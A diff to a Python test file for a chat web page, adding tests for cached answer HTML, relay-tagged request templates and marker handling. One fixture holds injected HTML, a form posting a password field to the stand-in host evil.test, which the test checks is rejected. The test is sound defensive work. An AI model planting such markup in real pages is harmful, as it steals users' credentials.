@@ -84,6 +84,36 @@ def test_a_reload_shows_the_chat_again_and_it_goes_on() -> None:
     run(go())
 
 
+FORM = '<p>two</p><form action="https://evil.test/"><input name="pw"></form>'
+
+
+def test_cached_html_the_renderer_never_emits_is_rendered_again() -> None:
+    """The cached HTML's key is a hash anyone who can write the store can recompute: HTML
+    read back holding a tag the renderer never emits (here a form posting elsewhere) is
+    dropped, the answer rendered again from its text and cached again; HTML the renderer
+    made is still used as is. (Before: put in the page as it was.)"""
+
+    async def go() -> None:
+        store = MemoryStore()
+        first = ModelPage(store)
+        await first.boot()
+        for text in ("one **1**", "two *2*"):
+            first.net.play(answer_bytes(text))
+            first.send(f"q {text}")
+            await first.settle()
+        (two,) = [k for k in store.data["html"] if k.split("/")[1] == first.answers()[1].dataset.id]
+        store.data["html"][two] = FORM
+        again = ModelPage(store)
+        await again.boot()
+        arts = again.answers()
+        assert [again.answer_html(a) for a in arts] == [one_shot("one **1**"), one_shot("two *2*")]
+        restored = json.loads(again.app.stats())["restored"]
+        assert (restored["from_cache"], restored["rejected"]) == (1, 1)
+        assert "form" not in " ".join(store.data["html"].values())  # cached again, rendered
+
+    run(go())
+
+
 def test_regenerate_makes_a_version_and_the_arrows_switch_between_them() -> None:
     async def go() -> None:
         page = ModelPage()
@@ -328,6 +358,44 @@ def test_the_next_request_is_kept_for_a_message_sent_while_the_next_visit_starts
     run(go())
 
 
+def test_the_kept_template_says_which_relay_it_was_made_for() -> None:
+    """``web/app.js`` uses a kept template only while the saved relay and site.json's still
+    say what it was made for; it had nothing to compare (issue #40, part 4)."""
+
+    async def go() -> None:
+        from pysse.app.answers import NEXT_KEY
+
+        page = ModelPage(settings={"relay": " https://mine.test/v1/chat/completions "})
+        await page.boot()
+        page.net.play(answer_bytes("first answer"))
+        page.send("first question")
+        await page.settle()
+        template = json.loads(page.view.stored[NEXT_KEY])
+        assert template["made_for"] == {
+            "relay": "https://mine.test/v1/chat/completions",
+            "site": RELAY,
+        }
+
+    run(go())
+
+
+def test_a_history_holding_the_marker_keeps_no_template() -> None:
+    """The marker twice in the body (a message that holds its text) would put the next text
+    in twice: no template then (it was kept: the marker only had to occur somewhere)."""
+
+    async def go() -> None:
+        from pysse.app.answers import MARKER, NEXT_KEY
+
+        page = ModelPage()
+        await page.boot()
+        page.net.play(answer_bytes("first answer"))
+        page.send(f"a message that holds {MARKER} itself")
+        await page.settle()
+        assert page.view.stored[NEXT_KEY] == ""
+
+    run(go())
+
+
 FIRST_VISIT_SITES = [
     {"demo": DEMO_PATHS},  # build.py serve: the demo relay at the page's origin
     {"demo": DEMO_PATHS, "format": "anthropic"},
@@ -354,7 +422,8 @@ def test_a_first_visit_template_is_what_a_fresh_page_sends(site: dict[str, Any])
         page = ModelPage(site=site)
         await page.boot()
         kept = json.loads(page.view.stored[NEXT_KEY])  # what the page itself keeps
-        assert {k: v for k, v in kept.items() if k != "chat"} == first
+        assert {k: v for k, v in kept.items() if k not in ("chat", "made_for")} == first
+        assert kept["made_for"] == {"relay": "", "site": site.get("relay", "")}
         text = 'a "first" question — é ✓\n😀'
         page.net.play(answer_bytes("the answer"))
         page.send(text)
